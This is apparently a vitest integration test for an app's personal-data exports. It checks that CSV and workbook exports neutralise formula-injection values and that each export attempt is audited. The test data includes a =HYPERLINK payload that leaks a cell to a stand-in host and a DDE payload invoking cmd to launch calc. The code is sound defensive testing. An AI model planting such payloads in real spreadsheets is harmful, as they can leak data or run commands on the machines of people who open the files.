/**
 * Every export of personal data through the whole core (real dispatcher, rights, audit trail, SQLite, the demo
 * directory over HTTP): formula-like values planted in the directory come out neutralised in each CSV (and as text in
 * each workbook); overwrite only when asked; and every export, written or refused, leaves its entry in the trail.
 */
import ExcelJS from 'exceljs';
import { existsSync, mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCore, type Core } from '../../electron/core';
import type { DemoDirectory } from '../../electron/demo-directory/server';
import type { MethodName } from '../../shared/api/contract';
import { ApiError } from '../../shared/api/errors';
import { tempDir } from '../helpers/temp';
import { FAST_RETRY, operator, startDirectory } from './sync-helpers';

const origin = { transport: 'internal' as const };
const HYPERLINK = '=HYPERLINK("http://exemple.invalid/?d="&A2;"Cliquez ici")';
const MOBILE = '+33 6 12 34 56 78';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

let directory: DemoDirectory;
let core: Core;
let uai: string;
let guardianId: string;
const data = tempDir('ecd-exports-');
const folder = join(data.path, 'documents');

const call = (method: MethodName, input: unknown) => core.dispatcher.invoke(method, input, origin);
const refusal = (promise: Promise<unknown>) =>
  promise.then(
    () => null,
    (error: unknown) => {
      if (!(error instanceof ApiError)) throw error;
      return { code: error.code, reason: (error.details as { reason?: string } | undefined)?.reason };
    },
  );

/** Lines where a cell (quoted or not) starts with a character a spreadsheet reads as the start of a formula. */
const formulaCells = (csv: string) => csv.split('\r\n').filter((line) => /(^|;)"?[=+\-@\t\r]/.test(line));

beforeAll(async () => {
  directory = await startDirectory({ establishments: 1, pupils: 60 });
  uai = operator(directory, 'chef.demo').uais[0]!;
  // A guardian with an account, whose name and mobile look like formulas; and an identity change to a formula.
  const account = directory.store.liveRows(uai, 'account').find((a) => a.data.personKind === 'guardian')!;
  guardianId = account.data.personId;
  const guardian = directory.store.getLive(uai, 'guardian', guardianId)!;
  directory.store.transaction(() => {
    directory.store.put(uai, 'guardian', guardianId, { ...guardian.data, lastName: HYPERLINK, mobile: MOBILE });
    directory.store.put(uai, 'account', account.id, { ...account.data, mobile: MOBILE });
    directory.store.put(uai, 'identityChange', 'chg-formula', {
      uai,
      personKind: 'guardian',
      personId: guardianId,
      field: 'firstName',
      previousValue: guardian.data.firstName,
      newValue: DDE,
      source: 'franceconnect',
      detectedAt: '2025-09-20T08:00:00Z',
      status: 'open',
    });
  });
  core = createCore({
    dataDir: join(data.path, 'app'),
    directory: directory.url,
    appVersion: '0.0.0-test',
    host: 'browser',
    sync: { retry: FAST_RETRY, log: () => undefined, probeMs: 60_000 },
    auth: { failureDelayMs: 0 },
  });
  await core.governance.auth.signIn('chef.demo', operator(directory, 'chef.demo').password);
  await core.directory.scheduler.whenIdle();
  await call('sync.run', { uai });
  await core.review.ingest(uai);
  mkdirSync(folder);
}, 60_000);

afterAll(async () => {
  await core?.shutdown();
  await directory?.close();
  data.remove();
});

describe('formula injection', () => {
  it('the accounts CSV neutralises a guardian named =HYPERLINK(…) and a +33 mobile; the workbook keeps them as text', async () => {
    const csvPath = join(folder, 'responsables.csv');
    await call('accounts.export', { kind: 'guardian', uai, format: 'csv', path: csvPath });
    const csv = readFileSync(csvPath, 'utf8');
    const line = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
    expect(line.startsWith(`"'=HYPERLINK(""http://exemple.invalid/?d=""&A2;""Cliquez ici"")";`)).toBe(true);
    expect(line.split(';')).toContain(`'${MOBILE}`);
    expect(formulaCells(csv)).toEqual([]);

    const xlsxPath = join(folder, 'responsables.xlsx');
    await call('accounts.export', { kind: 'guardian', uai, format: 'xlsx', path: xlsxPath });
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(xlsxPath);
    const sheet = book.worksheets[0]!;
    let found = false;
    sheet.eachRow((row) => {
      const cell = row.getCell(1);
      if (cell.value !== HYPERLINK) return;
      found = true;
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    });
    expect(found).toBe(true);
  });

  it('the hand-off CSV neutralises an accepted change to a formula', async () => {
    const item = (await core.dispatcher.call('review.list', { uai, state: 'pending', limit: 500 }, origin)).items.find(
      (i) => i.personId === guardianId && i.newValue === DDE,
    )!;
    await core.dispatcher.call('review.decide', { id: item.id, decision: 'accept' }, origin);
    const path = join(folder, 'a-saisir.csv');
    await call('review.handoffExport', { uai, format: 'csv', path });
    const csv = readFileSync(path, 'utf8');
    expect(csv.split('\r\n').find((l) => l.includes('@SUM'))!.split(';')).toContain(`'${DDE}`);
    expect(formulaCells(csv)).toEqual([]);
  });
});

describe('every export in the audit trail, written or refused', () => {
  const cases: { method: MethodName; fields: () => Record<string, unknown>; ext: string }[] = [
    { method: 'accounts.export', fields: () => ({ kind: 'pupil', uai, format: 'csv' }), ext: 'csv' },
    { method: 'review.handoffExport', fields: () => ({ uai, format: 'xlsx' }), ext: 'xlsx' },
    { method: 'audit.export', fields: () => ({ uai }), ext: 'xlsx' },
  ];

  it.each(cases)('$method: overwrite only when asked, nothing created on refusal, each outcome audited', async ({ method, fields, ext }) => {
    const input = fields();
    const path = join(folder, `trace-${method}.${ext}`);
    await call(method, { ...input, path });
    expect(await refusal(call(method, { ...input, path }))).toEqual({ code: 'CONFLICT', reason: 'exists' });
    await call(method, { ...input, path, overwrite: true });
    expect(await refusal(call(method, { ...input, path: `trace.${ext}` }))).toEqual({ code: 'INVALID_INPUT', reason: 'relative' });
    expect(await refusal(call(method, { ...input, path: join(folder, 'absent', `trace.${ext}`) }))).toEqual({ code: 'INVALID_INPUT', reason: 'folder-missing' });
    expect(await refusal(call(method, { ...input, path: join(folder, `trace-${method}.pdf`) }))).toEqual({ code: 'INVALID_INPUT', reason: 'extension' });
    expect(existsSync(join(folder, 'absent'))).toBe(false);
    expect(readdirSync(folder).filter((f) => f.includes(method))).toEqual([`trace-${method}.${ext}`]);

    const entries = (await core.dispatcher.call('audit.list', { method, limit: 500 }, origin)).items.slice(0, 6).reverse();
    expect(entries.map((e) => [e.method, e.operator, e.outcome, e.errorCode])).toEqual([
      [method, 'chef.demo', 'ok', null],
      [method, 'chef.demo', 'error', 'CONFLICT'],
      [method, 'chef.demo', 'ok', null],
      [method, 'chef.demo', 'error', 'INVALID_INPUT'],
      [method, 'chef.demo', 'error', 'INVALID_INPUT'],
      [method, 'chef.demo', 'error', 'INVALID_INPUT'],
    ]);
    expect(entries[0]).toMatchObject({ targetType: 'file', targetId: path, uai, after: expect.objectContaining({ overwrite: false }) });
    expect(entries[2]).toMatchObject({ targetType: 'file', targetId: path, uai, after: expect.objectContaining({ overwrite: true }) });
  });
});
